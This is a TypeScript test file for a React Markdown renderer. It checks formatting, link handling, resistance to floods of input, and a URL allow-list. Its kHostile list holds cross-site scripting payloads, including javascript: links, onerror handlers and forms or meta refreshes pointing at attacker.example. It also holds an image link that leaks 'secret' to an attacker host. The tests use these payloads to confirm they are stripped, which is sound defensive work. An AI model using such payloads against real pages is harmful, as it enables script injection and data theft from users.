import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';
import { parseMarkdown, plainText, safeHref } from './parse';

const html = (source: string): string => renderToStaticMarkup(<Markdown source={source} arriving={false} />);

function elements(source: string): Element[] {
  const page = new DOMParser().parseFromString(html(source), 'text/html');
  return [...page.body.querySelectorAll('*')];
}

describe('Markdown', () => {
  it('draws what answers are made of', () => {
    expect(html('# T\n\na **b** *c* ~~d~~ `e`')).toBe('<h1 dir="auto">T</h1><p dir="auto">a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>');
    expect(html('3. x\n4. y')).toBe('<ol start="3" dir="ltr"><li dir="auto">x</li><li dir="auto">y</li></ol>');
    expect(html('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<td class="align-right">2</td>');
    expect(html('```python\nx = 1\n```')).toContain('<code>x = 1</code>');
  });

  it('opens links in a new page that learns nothing', () => {
    expect(html('[x](https://example.org/a)')).toContain('<a href="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow"');
    expect(html('see https://example.org.')).toContain('href="https://example.org/"');
  });

  const kHostile = [
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<style>*{display:none}</style>',
    '<iframe src="https://attacker.example"></iframe>', '<a href="javascript:alert(1)">x</a>', '<base href="https://attacker.example">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example">', '<form action="https://attacker.example"><input name=q></form>',
    '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\nscript:alert(1))', '[x](&#106;avascript:alert(1))', '[x](\u0001javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)', '[x](vbscript:x)', '[x](file:///etc/passwd)', '[x](blob:https://a/b)', '[x](//attacker.example)',
    '<javascript:alert(1)>', '[x]: javascript:alert(1)\n\n[x]', '![x](https://attacker.example/leak?q=secret)', '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '![x](javascript:alert(1))', '[![x](https://attacker.example/a)](javascript:alert(1))', '```"><img src=x onerror=alert(1)>\nx\n```',
    '`<img src=x onerror=alert(1)>`', '| <img src=x> |\n|---|\n| <script>1</script> |', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<script>alert(1)</script>]]>',
  ];

  it.each(kHostile)('is safe against %j', (source) => {
    for (const element of elements(source)) {
      expect(element.tagName.toLowerCase()).not.toMatch(/^(script|img|image|iframe|style|link|meta|base|form|object|embed|video|audio)$/);
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^(on|src|style|srcset|action)/);
        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:)/);
      }
    }
    const icons = elements(source).filter((e) => e.tagName.toLowerCase() === 'svg' && !e.classList.contains('icon'));
    expect(icons).toEqual([]);
  });

  it('is safe against the same things cut anywhere, while they arrive', () => {
    for (const source of kHostile) {
      for (let end = 1; end <= source.length; end++) {
        expect(renderToStaticMarkup(<Markdown source={source.slice(0, end)} arriving />)).not.toMatch(/<(script|img|iframe|style|form|base|meta)|href="(?!https?:|mailto:)/i);
      }
    }
  });

  it.each([
    ['quotes', '> '.repeat(20_000)], ['lists', '- '.repeat(20_000)], ['brackets', '['.repeat(20_000)], ['links', '[a]('.repeat(10_000)],
    ['stars', '*a '.repeat(20_000)], ['mixed stars', '*_'.repeat(20_000)], ['backticks', Array.from({ length: 300 }, (_, i) => '`'.repeat(i)).join(' ')],
    ['bars', '|'.repeat(20_000)], ['one long line', 'x'.repeat(1_000_000)], ['pictures', '!['.repeat(20_000)], ['addresses', 'http://'.repeat(10_000)],
  ])('survives a flood of %s', (_name, source) => {
    expect(html(source).length).toBeGreaterThan(0);
    expect(renderToStaticMarkup(<Markdown source={source} arriving />)).toBeTypeOf('string');
  });
});

describe('parseMarkdown', () => {
  it('gives each block its own lines, so that earlier ones stay equal as text arrives', () => {
    const before = parseMarkdown('one\n\n```\ncode\n```\n\n- a\n- b').map((b) => b.source);
    const after = parseMarkdown('one\n\n```\ncode\n```\n\n- a\n- b\n\nmore').map((b) => b.source);
    expect(before.slice(0, 2)).toEqual(['one', '```\ncode\n```']);
    expect(after.slice(0, 2)).toEqual(before.slice(0, 2));
    expect(after).toHaveLength(4);
  });
});

describe('safeHref', () => {
  it.each(['https://example.org/', 'http://a/', 'mailto:a@b.c'])('lets %s through', (url) => expect(safeHref(url)).toBe(url));
  it.each(['javascript:1', ' javascript:1', 'java\tscript:1', 'data:,x', '/relative', '#x', '', 'ftp://a/', 'about:blank'])('stops %j', (url) => expect(safeHref(url)).toBeNull());
});

describe('plainText', () => {
  it('reads words without marks', () => {
    expect(plainText(parseMarkdown('# Hi\n\na **b** [c](https://d/)').flatMap((b) => b.nodes))).toBe('Hi\na b c\n');
  });
});
